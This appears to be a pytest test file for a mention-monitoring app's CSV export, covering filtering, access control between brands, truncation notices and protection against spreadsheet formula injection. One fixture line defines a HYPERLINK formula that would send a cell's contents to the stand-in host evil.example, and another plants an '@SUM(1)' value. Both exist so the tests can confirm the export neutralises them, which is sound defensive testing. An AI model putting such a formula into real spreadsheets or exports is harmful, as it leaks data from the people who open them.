"""The inbox as a table: what is narrowed, who sees what, and that nothing in it runs."""

import csv
import io
from typing import Any

import pytest

from monitoring.inbox.services import exporting
from monitoring.models import Post
from tests.monitoring.scene import small
from tests.world import World

FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture
def scene(world: World) -> Any:
    made = small(world)
    Post.objects.filter(pk=made.mentions[0].post_id).update(title=FORMULA, author="@SUM(1)")
    return made


def _table(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200 and answer["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("path", ["/mentions/export/?status=all", "/api/v1/mentions/export/"])
def test_the_file_holds_the_mentions_and_no_formula(world: World, scene: Any, path: str) -> None:
    head, *rows = _table(world.browser(world.analyst).get(path))
    assert tuple(head) == exporting.HEAD
    assert len(rows) == len(scene.mentions)
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells and "'@SUM(1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_the_file_is_narrowed_as_the_list_is(world: World, scene: Any) -> None:
    browser = world.browser(world.analyst)
    negative = _table(browser.get("/api/v1/mentions/export/?sentiment=negative"))[1:]
    listed = browser.get("/api/v1/mentions/?sentiment=negative").json()["results"]
    assert len(negative) == len(listed) and {row[9] for row in negative} <= {"Negative"}
    refused = browser.get("/api/v1/mentions/export/?since=2026-01-01", headers={"Accept": "text/csv"})
    assert refused.status_code == 400 and "since" in refused.json()["errors"]


def test_nobody_gets_another_brands_mentions_in_a_file(world: World, scene: Any) -> None:
    assert len(_table(world.browser(world.other).get("/mentions/export/?status=all"))) == 1
    assert world.browser(world.client).get("/mentions/export/").status_code == 403
    assert world.browser(world.client).get("/api/v1/mentions/export/").status_code == 403


def test_a_file_that_can_not_hold_all_says_so(world: World, scene: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "MOST", 2)
    monkeypatch.setattr(exporting, "_SLICE", 2)
    rows = _table(world.browser(world.analyst).get("/mentions/export/?status=all"))
    assert len(rows) == 4 and rows[-1][0].startswith("Only the newest 2 of these mentions")
    # How to get the others: the time of the last one that is in it, as it stands in its row.
    assert f"back to {rows[-2][0][:10]}" in rows[-1][0] and "narrow it to a time before that" in rows[-1][0]


def test_the_inbox_offers_its_own_file(world: World, scene: Any) -> None:
    page = world.browser(world.analyst).get("/mentions/?sentiment=negative").content.decode()
    assert 'href="/mentions/export/?sentiment=negative"' in page
